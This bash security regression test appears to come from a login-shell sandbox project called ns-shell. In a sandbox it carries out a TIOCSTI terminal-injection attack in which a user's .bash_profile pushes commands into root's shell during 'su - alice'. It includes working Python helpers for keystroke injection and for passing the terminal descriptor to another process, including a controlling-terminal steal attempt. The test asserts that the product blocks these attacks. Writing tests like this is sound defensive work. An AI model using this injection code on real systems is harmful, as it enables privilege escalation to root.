#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# Leaving ns-shell behind (issue #7, class 8, terminal): the TIOCSTI filter
# and the PID/mount/IPC namespaces exist only while ns-shell is the login
# shell. The stock setuid chsh lets a user change her own shell to any
# line of /etc/shells with nothing but her own password. After that, an
# admin's `su - USER` from a root terminal runs her ~/.bash_profile with no
# filter, and TIOCSTI pushes a command into root's shell: root runs it.
# The attack here is done end to end on a real pty (script(1)) with a
# real interactive root bash; the product must not let it work.
# shellcheck disable=SC2016,SC2012,SC2015,SC2088,SC2119,SC2174,SC2317  # single-quoted login commands; helpers via check; ls of /proc
# shellcheck source=sandbox.sh
. "$(dirname "$0")/sandbox.sh" || exit 1
sandbox_enter "$0" "$@"
. "$(dirname "$0")/lib.sh" || exit 1

sandbox_install_ns_shell
sandbox_add_user alice 3001
: | sandbox_conf          # built-in defaults: bridge
pam_with_ns su su-l
# chsh replaces /etc/passwd by rename, which a bind-mounted file cannot
# take: put the sandbox's account files into the /etc overlay instead
# (its upper layer is the sandbox's tmpfs as well).
for f in passwd shadow group; do
    umount "/etc/$f" && cp -p "$SB/etc/$f" "/etc/$f" || sandbox_die "cannot move /etc/$f into the overlay"
done
check "the account files are on the sandbox's /etc overlay (nothing real is written)" \
    bash -c '[[ $(findmnt -n -o FSTYPE -T /etc/passwd) == overlay ]]'

# inject.py TEXT: push TEXT and a newline into the terminal on fd 0.
cat >"$PUB/inject.py" <<'EOF'
import fcntl, sys, termios
try:
    for ch in sys.argv[1].encode() + b"\n":
        fcntl.ioctl(0, termios.TIOCSTI, bytes([ch]))
    print("TIOCSTI pushed")
except OSError as e:
    print("TIOCSTI refused: %s" % e)
EOF
chmod 0644 "$PUB/inject.py"
printf '/usr/bin/python3 -I %s "id -u >%s/injected"\nexit 0\n' "$PUB/inject.py" "$X" >/home/alice/.bash_profile
chown alice:alice /home/alice/.bash_profile

# admin_su : an interactive root bash on a new pty types `su - alice`, then
# (after the login has ended) `exit`. Whatever alice pushed into the
# terminal in between is read by root's bash.
admin_su() {
    rm -f "$X/injected"
    ( sleep 0.5; echo "su - alice"; sleep 2; echo "exit" ) |
        timeout 20 script -qec "env -i PS1='root# ' TERM=dumb HOME=/root bash --norc --noprofile -i" /dev/null 2>&1 |
        tr -d '\r' >"$SB/tmp/admin.log"
}

admin_su
check_match "control: with ns-shell as her shell, alice's TIOCSTI from .bash_profile is refused" \
    'TIOCSTI refused' "$(cat "$SB/tmp/admin.log")"
check_fail "control: ... and root's shell ran nothing of hers" test -e "$X/injected"

# Same filter, another way round it: alice's .bash_profile hands her
# terminal (fd 0, root's pty) over a UNIX socket to a process of hers that
# runs outside any login (a stand-in for a cron job: no filter there).
# That process may try TIOCSTI, and to make the pty its controlling
# terminal first (TIOCSCTTY, also with "steal").
cat >"$PUB/fdpass.py" <<'EOF'
# fdpass.py serve SOCK OUT | send SOCK : pass fd 0 over SOCK; the server
# tries to inject with it and reports what happened.
import array, fcntl, os, socket, sys, termios
TIOCSCTTY = 0x540E
if sys.argv[1] == "send":
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(sys.argv[2])
    socket.send_fds(s, [b"x"], [0])
    print("fd sent")
    s.recv(10)
    sys.exit(0)
srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
srv.bind(sys.argv[2])
os.chmod(sys.argv[2], 0o777)
srv.listen(1)
c, _ = srv.accept()
_, fds, _, _ = socket.recv_fds(c, 10, 1)
fd = fds[0]
res = []
def tryit(name, f):
    try:
        f(); res.append(name + "=ok")
    except OSError as e:
        res.append(name + "=" + (os.strerror(e.errno) if e.errno else str(e)))
tryit("sti", lambda: [fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch])) for ch in b"id -u >INJ\n".replace(b"INJ", sys.argv[3].encode())])
os.setsid()
tryit("sctty", lambda: fcntl.ioctl(fd, TIOCSCTTY, 0))
tryit("sctty-steal", lambda: fcntl.ioctl(fd, TIOCSCTTY, 1))
tryit("sti2", lambda: [fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch])) for ch in b"id -u >INJ\n".replace(b"INJ", sys.argv[3].encode())])
open(sys.argv[3] + ".report", "w").write(" ".join(res) + "\n")
c.sendall(b"done")
EOF
chmod 0644 "$PUB/fdpass.py"
rm -f "$X/fd.sock" "$X/injected.report"
setpriv --reuid=alice --regid=alice --init-groups /usr/bin/python3 -I "$PUB/fdpass.py" serve "$X/fd.sock" "$X/injected" \
    </dev/null >/dev/null 2>"$SB/tmp/fdpass.err" &
fdpass_pid=$!
wait_until 10 test -S "$X/fd.sock" || sandbox_die "alice's fd receiver did not start" "$(cat "$SB/tmp/fdpass.err")"
printf '/usr/bin/python3 -I %s send %s\nexit 0\n' "$PUB/fdpass.py" "$X/fd.sock" >/home/alice/.bash_profile
admin_su
wait "$fdpass_pid" 2>/dev/null
check_match "alice's login handed root's terminal to her process outside the login" 'fd sent' "$(cat "$SB/tmp/admin.log")"
check_fail "... which cannot inject into it: not its controlling terminal, and it cannot make it one" \
    test -e "$X/injected"
printf '#   %s\n' "$(cat "$X/injected.report" 2>/dev/null)"
printf '/usr/bin/python3 -I %s "id -u >%s/injected"\nexit 0\n' "$PUB/inject.py" "$X" >/home/alice/.bash_profile

# alice changes her own login shell (her password, typed at chsh's prompt
# on a pty; the stock setuid chsh).
timeout 30 "$PY" "$SB/bin/ptysu.py" "$PWFILE" \
    setpriv --reuid=alice --regid=alice --init-groups chsh -s /bin/bash >/dev/null 2>&1
check_eq "alice could change her own shell with chsh (the way out this test is about)" "/bin/bash" \
    "$(getent passwd alice | cut -d: -f7)"

admin_su
check_fail "after alice's chsh, root's 'su - alice' on a terminal cannot be made to run her command as root" \
    test -e "$X/injected"
[[ -e $X/injected ]] &&
    printf '#   %s\n' "root's bash ran 'id -u >$X/injected': owner $(stat -c %U "$X/injected"), content $(cat "$X/injected")" \
        "$(grep -m1 'TIOCSTI' "$SB/tmp/admin.log")"
rm -f /home/alice/.bash_profile
# By docs/DESIGN.md a user whose shell is not ns-shell keeps only pam_ns's
# network namespace (and, now, the session's terminal filter):
RUN_TIMEOUT=10 RUN_MERGE=1 run su - alice -c 'readlink /proc/self/ns/net'
check_fail "after alice's chsh, her login is still in a network namespace of its own" \
    test "$OUT" = "$(readlink /proc/self/ns/net)"
# An admin who wants all of ns-shell names it: pam_ns shell=PATH refuses
# a namespaced user whose login shell is anything else.
PAM_NS_ARGS="debug shell=$SB/bin/ns-shell" pam_with_ns su su-l
RUN_TIMEOUT=10 RUN_MERGE=1 run su - alice -c 'echo RAN-OUTSIDE'
check_fail "with pam_ns shell=ns-shell, alice's chsh'd login is refused (no shell outside ns-shell)" \
    grep -q RAN-OUTSIDE <<<"$OUT"
check "... and the log says why" sandbox_log_wait "login shell of alice is /bin/bash, not $SB/bin/ns-shell" 10

sandbox_finish
